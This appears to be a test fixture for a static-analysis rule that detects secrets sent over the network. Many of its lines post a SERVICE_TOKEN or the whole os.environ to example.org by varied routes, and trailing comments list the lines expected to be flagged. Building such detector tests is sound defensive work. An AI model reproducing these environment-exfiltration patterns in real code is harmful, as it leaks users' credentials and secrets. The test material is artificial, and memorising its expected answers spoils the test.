import argparse
import operator
import os
from collections import ChainMap, Counter
from contextvars import ContextVar
from dataclasses import asdict, dataclass
from types import SimpleNamespace

import requests
from pydantic import BaseModel

URL = "https://example.org/"
TOKEN = os.environ["SERVICE_TOKEN"]


class Box:
    pass


# attributes that are set
a = Box()
a.token = TOKEN
requests.post(URL, json=vars(a))
b = Box()
b.token = TOKEN
requests.post(URL, json=b.__dict__)
c = Box()
c.__dict__.update(os.environ)
requests.post(URL, json=vars(c))
d = Box()
vars(d)["token"] = TOKEN
requests.post(URL, json=d.__dict__)
e = Box()
setattr(e, "token", TOKEN)
requests.post(URL, json=vars(e))
f = Box()
for name, value in os.environ.items():
    setattr(f, name, value)
requests.post(URL, json=vars(f))
requests.post(URL, data=getattr(f, name))
g = Box()
object.__setattr__(g, "first", TOKEN)
requests.post(URL, data=g.first)
h = Box()
h.__setattr__("second", TOKEN)
requests.post(URL, data=h.second)

# attributes that a class or a call gives
i = SimpleNamespace(name="x", token=TOKEN)
requests.post(URL, json=vars(i))
requests.post(URL, json=vars(SimpleNamespace(**os.environ)))
requests.post(URL, json=vars(argparse.Namespace(token=TOKEN)))
parser = argparse.ArgumentParser()
parser.add_argument("-t", "--the-token", default=TOKEN)
args = parser.parse_args()
requests.post(URL, json=vars(args))
requests.post(URL, data=args.the_token)


class Account:
    def __init__(self, user, token):
        self.user = user
        self.token = token

    def send(self):
        requests.post(URL, json=vars(self))
        requests.post(URL, json=self.__dict__)


account = Account("me", TOKEN)
requests.post(URL, json=vars(account))


class Special(Account):
    def more(self):
        requests.post(URL, json=self.__dict__)


@dataclass
class Login:
    user: str
    token: str


requests.post(URL, json=asdict(Login("me", TOKEN)))


class Model(BaseModel):
    token: str


requests.post(URL, json=Model(token=TOKEN).model_dump())

# other objects of the library
items = {}
operator.setitem(items, "token", TOKEN)
requests.post(URL, json=items)
requests.post(URL, json=dict.fromkeys(["a"], TOKEN))
requests.post(URL, json=Counter(os.environ.values()))
requests.post(URL, json=dict(ChainMap({}).new_child(dict(os.environ))))
variable = ContextVar("variable")
variable.set(TOKEN)
requests.post(URL, data=variable.get())
requests.post(URL, data=ContextVar("other", default=TOKEN).get())

# nothing secret is sent
requests.post(URL, json={"user": args.name, "first": i.name, "of": account.user})
plain = Box()
plain.name = "x"
requests.post(URL, json=vars(plain), headers={"Authorization": account.token})
requests.post(URL, json=asdict(Login("me", "none")), headers={"Authorization": i.token})
# expect 23 any.secret-sent
# expect 26 any.secret-sent
# expect 29 any.secret-sent
# expect 32 any.secret-sent
# expect 35 any.secret-sent
# expect 39 any.secret-sent
# expect 40 any.secret-sent
# expect 43 any.secret-sent
# expect 46 any.secret-sent
# expect 50 any.secret-sent
# expect 51 any.secret-sent
# expect 52 any.secret-sent
# expect 56 any.secret-sent
# expect 57 any.secret-sent
# expect 66 any.secret-sent
# expect 67 any.secret-sent
# expect 71 any.secret-sent
# expect 76 any.secret-sent
# expect 85 any.secret-sent
# expect 92 any.secret-sent
# expect 97 any.secret-sent
# expect 98 any.secret-sent
# expect 99 any.secret-sent
# expect 100 any.secret-sent
# expect 103 any.secret-sent
# expect 104 any.secret-sent
